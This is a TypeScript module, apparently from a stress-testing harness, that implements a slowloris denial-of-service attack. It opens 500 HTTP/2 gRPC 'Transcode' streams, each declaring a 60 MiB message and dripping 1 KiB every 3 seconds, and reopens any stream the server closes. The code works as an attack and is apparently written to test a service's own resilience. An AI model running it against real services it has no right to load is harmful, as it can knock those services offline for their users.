/**
 * slowloris (issue 9 D4): 500 HTTP/2 streams on the orchestrator's RPC port, each a gRPC `Transcode` call
 * whose envelope declares a 60 MiB message (5-byte prefix: flags, uint32 big-endian length) and then drips
 * 1 KiB every 3 s. Streams the server ends are opened again (at most {@link REOPENS_PER_SECOND}), so the
 * pressure holds for the whole case; a bounded total of opens keeps the attack finite.
 */
import { randomBytes } from 'node:crypto';
import http2 from 'node:http2';
import { type AttackConfig, type AttackResult, pause, Tally } from './common.js';
import { fromAddress } from './rpc.js';

const STREAMS = 500;
const CONNECTIONS = 10;
const DECLARED_BYTES = 60 * 1024 * 1024;
const DRIP_BYTES = 1024;
const DRIP_MS = 3_000;
const REOPENS_PER_SECOND = 50;
const MAX_OPENS = 20_000;
const PATH = '/streamflow.v1.Orchestrator/Transcode';

/** The envelope prefix of a gRPC message of `length` bytes, uncompressed. */
function envelopePrefix(length: number): Buffer {
  const b = Buffer.alloc(5);
  b.writeUInt8(0, 0);
  b.writeUInt32BE(length, 1);
  return b;
}

/**
 * One slow stream's request: gRPC headers for `Transcode` and the prefix of a message never sent whole. One
 * function, so a change of protocol (a required header, another path) is made here.
 */
function slowRequest(session: http2.ClientHttp2Session): http2.ClientHttp2Stream {
  const stream = session.request({
    ':method': 'POST',
    ':path': PATH,
    'content-type': 'application/grpc+proto',
    te: 'trailers',
  });
  stream.write(envelopePrefix(DECLARED_BYTES));
  return stream;
}

export async function slowloris(
  cfg: AttackConfig,
  signal: AbortSignal,
  hooks: { ready(): void; progress(text: string): void },
): Promise<AttackResult> {
  const tally = new Tally();
  const drip = randomBytes(DRIP_BYTES);
  const sessions = new Set<http2.ClientHttp2Session>();
  const open = new Set<http2.ClientHttp2Stream>();
  let session: (http2.ClientHttp2Session | undefined)[] = Array.from({ length: CONNECTIONS });
  let opens = 0;
  let announced = false;

  const sessionFor = (i: number): http2.ClientHttp2Session => {
    const s = session[i];
    if (s && !s.closed && !s.destroyed) return s;
    const fresh = http2.connect(
      cfg.orchestratorUrl,
      cfg.localAddress ? { createConnection: fromAddress(cfg.orchestratorUrl, cfg.localAddress) } : {},
    );
    tally.add('connectionsOpened');
    fresh.on('error', () => tally.count('connectionError'));
    fresh.on('goaway', () => tally.count('goaway'));
    fresh.on('close', () => sessions.delete(fresh));
    sessions.add(fresh);
    session[i] = fresh;
    return fresh;
  };

  const openOne = (slot: number) => {
    opens++;
    tally.sent++;
    let stream: http2.ClientHttp2Stream;
    try {
      stream = slowRequest(sessionFor(slot % CONNECTIONS));
    } catch {
      tally.count('requestFailed');
      return;
    }
    open.add(stream);
    tally.max('maxOpenStreams', open.size);
    stream.on('response', (headers) => {
      const status = headers['grpc-status'] ?? headers[':status'];
      tally.count(`response${String(status)}`);
    });
    stream.on('data', () => undefined);
    stream.on('error', () => undefined);
    const timer = setInterval(() => {
      if (stream.writable && !stream.destroyed) {
        stream.write(drip);
        tally.add('bytesDripped', DRIP_BYTES);
      }
    }, DRIP_MS);
    stream.on('close', () => {
      clearInterval(timer);
      open.delete(stream);
      if (signal.aborted) return;
      // Closed by the server (refused, timed out, reset): the attacker comes back.
      tally.count(`closedByServer${stream.rstCode ? `Rst${stream.rstCode}` : ''}`);
    });
  };

  const progress = setInterval(
    () => hooks.progress(`${open.size} streams open, ${opens} opened (${JSON.stringify(tally.outcomes)})`),
    10_000,
  );
  const deadline = Date.now() + cfg.maxMs;
  try {
    while (!signal.aborted && Date.now() < deadline) {
      const missing = Math.min(STREAMS - open.size, REOPENS_PER_SECOND / 10, MAX_OPENS - opens);
      for (let i = 0; i < missing; i++) openOne(opens);
      // Up once every stream was declared at least once (a server that drops them keeps the count below 500).
      if (!announced && opens >= STREAMS) {
        announced = true;
        hooks.ready();
      }
      await pause(100, signal);
    }
  } finally {
    clearInterval(progress);
    tally.add('openStreamsAtEnd', open.size);
    for (const s of open) s.close(http2.constants.NGHTTP2_CANCEL);
    for (const s of sessions) s.destroy();
    session = [];
  }
  return tally.result();
}
